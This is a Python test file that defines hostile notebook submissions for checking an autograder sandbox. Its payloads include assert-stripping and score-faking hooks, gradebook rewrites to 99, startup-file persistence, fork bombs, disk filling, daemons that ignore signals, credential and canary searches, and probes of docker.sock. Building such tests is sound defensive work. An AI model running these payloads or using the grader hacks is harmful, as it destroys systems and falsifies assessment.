"""Rows 1 to 14, 17 to 28 and 41 to 43: what a submission's code tries while it runs."""

from hostile_course import Row, answer


def skip(nb):
    for cell in nb.cells:
        cell.metadata.setdefault("tags", []).append("skip-execution")


DROP_ASSERTS = """
import ast

class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.copy_location(ast.Constant(5.0), node)
        return self.generic_visit(node)

get_ipython().ast_transformers.append(DropAsserts())
"""

PASS_CHECKS = """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("check(" in line for line in lines) else lines
)
"""

REPLACE_SHELL = """
from IPython.core.interactiveshell import InteractiveShell

shell = get_ipython()
plain = shell.run_cell
good = plain("1")
shell.run_cell = InteractiveShell.run_cell = lambda source, *a, **k: good if "check" in source else plain(source, **k)
"""

PUBLISH = """
import builtins, cnnkit

check = cnnkit.check = cnnkit.checking.check = builtins.check = lambda *a, **k: {score}
cnnkit.checking.evaluate = cnnkit.evaluate = lambda *a, **k: {score}
"""

ALWAYS_EQUAL = answer("""
    class Equal(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, bool)
        def __ne__(self, other): return np.zeros(self.shape, bool)
        def __sub__(self, other): return np.zeros(self.shape)
        __rsub__ = __sub__
        def __array__(self, *a, **k): return self
        def __array_ufunc__(self, ufunc, method, *inputs, **k): return np.zeros(self.shape)
        def __array_function__(self, func, types, args, kwargs): return True
    return x.view(Equal)
""")

LOOK_AROUND = """
import gc, sys

def texts(depth=0):
    frame = sys._getframe()
    while frame:
        yield from (repr(value)[:2000] for value in list(frame.f_locals.values()) + list(frame.f_globals.values()))
        frame = frame.f_back
    yield from (o for o in gc.get_objects() if isinstance(o, str))
    yield from (repr(o)[:2000] for o in gc.get_objects() if isinstance(o, (dict, list, tuple)))
    yield repr(globals().get("In")), repr(globals().get("Out"))

def seen():
    return {str(text) for text in texts() if "CANARY-" in str(text)}

print("seen:", [text for text in seen() if "CANARY-" in text.replace('"CANARY-"', "")])
"""

READ = """
import os

def dig(*places):
    found = []
    for place in places:
        for folder, folders, files in os.walk(place):
            folders[:] = [f for f in folders if f not in ("sys", "usr", "site-packages", "lib", "lib64")][:200]
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        content = file.read(200000)
                except OSError:
                    continue
                at = content.find(b"CANARY" + b"-")
                if at >= 0:
                    found.append((folder, name, content[at:at + 60]))
    return found
"""

SEARCH = (
    READ
    + """
import glob

def everything():
    found = dig("@ROOT@", "@SUBMITTED@", "@RESULTS@", "@HOME@", "@SCRATCH@", "/home", "/tmp", "/var/tmp", "/dev/shm")
    found += dig(os.path.expanduser("~"), os.getcwd(), "/course", "/etc", "/opt", "/srv", "/mnt", "/media")
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            content = open(path, "rb").read()
        except OSError:
            continue
        if b"CANARY" + b"-" in content or b"secret" in content:
            found.append(content)
    for number in range(256):
        try:
            found += [f"open {os.readlink(f'/proc/self/fd/{number}')}"]
        except OSError:
            pass
    return [repr(f) for f in found if b"CANARY".decode() in repr(f) or "@" in repr(f) or "/tmp/" in repr(f)]
"""
)

WRITE_GRADEBOOK = """
import glob, os, sqlite3

def raise_all(*_):
    for path in ["@RESULTS@/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/home/**/gradebook.db")]:
        if not os.path.exists(path):
            continue
        with sqlite3.connect(path) as db:
            db.execute("update grade set auto_score = 99, manual_score = 99")
            db.commit()
        for folder, _, names in os.walk("@RESULTS@"):
            for name in names:
                open(os.path.join(folder, name), "a").write("\\n")
"""

PLANT = """
import os, pwd

homes = {os.path.expanduser("~"), os.path.expandvars("$HOME"), pwd.getpwuid(os.getuid()).pw_dir, "/root", "@HOME@"}
for home in homes:
    for path in (".ipython/profile_default/startup/00-evil.py", ".config/matplotlib/matplotlibrc", ".bashrc",
                 ".local/lib/python3.11/site-packages/usercustomize.py", ".pth", "sitecustomize.py"):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
            with open(os.path.join(home, path), "a") as file:
                file.write("import builtins; builtins.hostile_was_here = True\\n")
        except OSError:
            pass
"""

POISON = """
import glob, os, sys, tempfile
import numpy, cnnkit, autograder.sandbox.warm

for module in list(sys.modules.values()):
    file = getattr(module, "__file__", None)
    for path in [file, *glob.glob(os.path.dirname(file or "") + "/__pycache__/*.pyc")[:5]] if file else []:
        try:
            with open(path, "ab") as f: f.write(b"\\n")
        except OSError:
            pass
for folder in {"/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), "@SCRATCH@", "@ROOT@", "@ROOT@/cnnkit"}:
    try:
        with open(os.path.join(folder, "hostile"), "w") as f: f.write("hostile")
    except OSError:
        pass
autograder.sandbox.warm.check = autograder.sandbox.warm.session = None
autograder.sandbox.warm.SEED = 99
numpy.add = numpy.cumsum = None
try:
    import torch
    torch.manual_seed(3); torch.set_num_threads(4); torch.set_default_dtype(torch.float16)
    torch.hub.set_dir("/tmp/hub")
except Exception: pass
"""

LINK = """
import os

for name in ("link", "90-two-exercises.ipynb", "out", "ipython"):
    for target in ("@RESULTS@/gradebook.db", "@RESULTS@", "/etc/passwd", "@SCRATCH@", "/"):
        try:
            os.symlink(target, name)
            os.chmod(name, 0o777)
            os.rename(name, name + "-" + str(len(target)))
        except OSError as error:
            pass
"""

LINGER = """
import os, subprocess, sys, threading, time

LOOP = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 3, 13, 14, 15)]; time.sleep(98765)"

def daemonise():
    subprocess.Popen(["sleep", "98765"], start_new_session=True)
    os.system("setsid --fork sleep 98765")
    os.system("nohup sh -c 'trap \"\" 1 2 3 15; sleep 98765' >/dev/null 2>&1 &")
    subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True, close_fds=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(98765)
        os._exit(0)
    def spawn():
        if os.fork() == 0:
            time.sleep(98765)
    thread = threading.Thread(target=spawn)
    thread.start()
    thread.join()
"""

STUBBORN = """
import atexit, signal, sys, threading, time

def for_ever(*_):
    while True:
        try: time.sleep(0.01)
        except BaseException: pass

atexit.register(for_ever)
for number in range(1, 65):
    try: signal.signal(number, for_ever)
    except (OSError, ValueError): pass
for _ in range(5):
    threading.Thread(target=for_ever).start()
class Grave:
    def __del__(self): for_ever()
grave = Grave()
"""

FORK_BOMB = """
import os

def bomb():
    while True:
        try: os.fork()
        except OSError: pass
"""

FILL = """
import os

def fill(*folders):
    for folder in folders:
        try:
            with open(os.path.join(folder, "large"), "wb") as file:
                while True: file.write(bytes(1 << 20))
        except OSError as error:
            print(error)
        try:
            for number in range(10**6):
                os.mkdir(os.path.join(folder, str(number)))
        except OSError as error:
            print(number, error)
"""

CONNECT = """
import os, socket

def call():
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 22)),
        (socket.AF_INET, ("1.1.1.1", 53)),
        (socket.AF_INET6, ("2606:4700:4700::1111", 53)),
        (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
        (socket.AF_UNIX, "/var/run/docker.sock"),
        (socket.AF_UNIX, "\\0dbus"),
        (socket.AF_VSOCK, (2, 1024)),
        (socket.AF_NETLINK, (0, 0)),
    ):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as sock:
                    sock.settimeout(2)
                    sock.connect(address)
                    print("connected", address)
            except OSError:
                pass
    try:
        print("connected", socket.gethostbyname("example.org"))
    except OSError:
        pass
call()
"""


def nothing_of(text):
    """That the student's cells have not shown a text, which they would had they got through."""

    def look(course, row):
        assert text not in course.outputs(row.student)

    return look


def shows(text):
    def look(course, row):
        assert text in course.outputs(row.student)

    return look


def flagged(flag):
    def look(course, row):
        assert course.journal()[row.student]["flags"]["running_sum"] == [flag]

    return look


HANG_IN_C = """
import ctypes
hang = lambda: ctypes.PyDLL(None).sleep(98765)
"""

ROWS = [
    Row(1, "skip-execution", edit=skip),
    Row(2, "drops-asserts", before=DROP_ASSERTS),
    Row(3, "passes-checks", before=PASS_CHECKS),
    Row(4, "replaces-shell", before=REPLACE_SHELL),
    Row(5, "publishes-nan", before=PUBLISH.format(score="float('nan')")),
    Row(5, "publishes-negative", before=PUBLISH.format(score="-1.0")),
    Row(6, "publishes-99", before=PUBLISH.format(score="99.0"), after="99.0"),
    Row(7, "always-equal", second=ALWAYS_EQUAL),
    Row(8, "looks-around", before=LOOK_AROUND, second=answer("raise ValueError(seen())"), after="print(seen())"),
    Row(9, "reads-beside", before=READ, after="print(dig(os.getcwd(), os.path.dirname(os.getcwd())))"),
    Row(
        10,
        "reads-everything",
        before=SEARCH,
        second=answer("raise ValueError(everything())"),
        after="print('found', everything())",
        found=shows("found []"),
    ),
    Row(11, "writes-gradebook", before=WRITE_GRADEBOOK, second=answer("raise_all(); return x"), after="raise_all()"),
    Row(12, "plants-startup", before=PLANT, after=PLANT),
    Row(13, "poisons", before=POISON, first="def double(x):\n    return 2 * x", after=POISON),
    Row(14, "links", before=LINK, second=answer("os.symlink('@RESULTS@', 'results'); return x"), after=LINK),
    Row(17, "lingers", before=LINGER, second=answer("daemonise(); return x"), after="daemonise()"),
    Row(18, "stubborn", before=STUBBORN, after=STUBBORN),
    Row(18, "stubborn-in-a-check", second=answer(f"exec({STUBBORN!r}, globals()); return x")),
    Row(19, "exits", second=answer("import os; os._exit(0)"), found=flagged("crash")),
    Row(19, "segfaults", second=answer("import ctypes; ctypes.string_at(0)"), found=flagged("crash")),
    Row(19, "exits-in-a-cell", after="import os; os._exit(0)"),
    Row(20, "sys-exit", second=answer("import sys; sys.exit()"), before="import sys; sys.exit()", after="exit()"),
    Row(21, "never-ends", second=answer("while True: pass"), found=flagged("timeout")),
    Row(21, "never-ends-in-a-cell", after="while True: pass", found=shows("CellTimeout")),
    Row(22, "hangs-in-c", before=HANG_IN_C, second=answer("hang()"), found=flagged("timeout")),
    Row(22, "hangs-in-c-in-a-cell", after=HANG_IN_C + "hang()", found=shows("stopped after 6 s")),
    Row(
        23,
        "allocates",
        second=answer("""
        held = []
        while True: held.append(np.ones(1 << 24))
    """),
    ),
    Row(
        23,
        "allocates-in-children",
        found=flagged("memory"),
        second=answer("""
        import os, time
        for _ in range(20):
            if os.fork() == 0:
                held = np.ones(50 << 20)
                time.sleep(98765)
        time.sleep(98765)
    """),
    ),
    Row(24, "fork-bomb", before=FORK_BOMB, second=answer("bomb()")),
    Row(24, "fork-bomb-in-a-cell", before=FORK_BOMB, after="if not os.fork(): bomb()"),
    Row(24, "fork-bomb-before", before=FORK_BOMB + "if not os.fork(): bomb()"),
    Row(
        25,
        "fills-the-disk",
        before=FILL,
        second=answer("fill('/tmp', '.', '/dev/shm', '/dev'); return x"),
        after="fill('/tmp', '.', '/dev/shm', '/dev', '/')",
    ),
    Row(
        26,
        "prints",
        second=answer("""
        import os, sys
        for _ in range(300): print("x" * (1 << 20)); sys.__stdout__.write("x" * (1 << 20))
        return x
    """),
        after="""
        import os
        for _ in range(300):
            print("x" * (1 << 20))
            os.write(1, b"x" * (1 << 20))
    """,
    ),
    Row(
        27,
        "malformed-display",
        after="""
        from IPython.display import clear_output, display
        deep = []
        for _ in range(5000): deep = [deep]
        for data in (deep, {"text/html": deep}, {"text/plain": 5}, {5: "x"}, {"image/png": "no"}, None, "text"):
            try: display(data, raw=True, metadata=data)
            except Exception: pass
        clear_output(wait=True)
        import ipywidgets
        display(ipywidgets.IntSlider())
        get_ipython().display_pub.publish({"application/vnd.jupyter.widget-view+json": {"model_id": "../.."}})
    """,
    ),
    Row(28, "calls-home", before=CONNECT, second=answer("call(); return x"), found=nothing_of("connected")),
    Row(
        41,
        "replaces-modules",
        before="""
        import sys, types
        import numpy, numpy.testing
        for name in dir(numpy.testing):
            if name.startswith("assert"): setattr(numpy.testing, name, lambda *a, **k: None)
        numpy.allclose = numpy.array_equal = numpy.isclose = lambda *a, **k: True
        import cnnkit
        fake = types.ModuleType("cnnkit")
        fake.check = fake.evaluate = lambda *a, **k: 5.0
        for name in [name for name in sys.modules if name.startswith("cnnkit")]:
            sys.modules[name] = fake
    """,
    ),
    Row(42, "object-array", second=answer("return np.array([object()] * len(x), object)")),
    Row(42, "lazy", second=answer("return (value for value in np.cumsum(x))")),
    Row(42, "wrong-dtype", second=answer("return np.cumsum(x).astype(str)")),
    Row(42, "enormous", second=answer("return np.zeros((1 << 26,))")),
    Row(42, "enormous-without-memory", second=answer("return np.broadcast_to(1.0, (1 << 40,))")),
    Row(
        43,
        "first-call-only",
        second="""
        import random, time
        calls = 0
        def running_sum(x):
            global calls
            calls += 1
            np.random.seed(int(time.time())); random.seed(calls)
            return np.cumsum(x) if calls == 1 else x
    """,
    ),
]
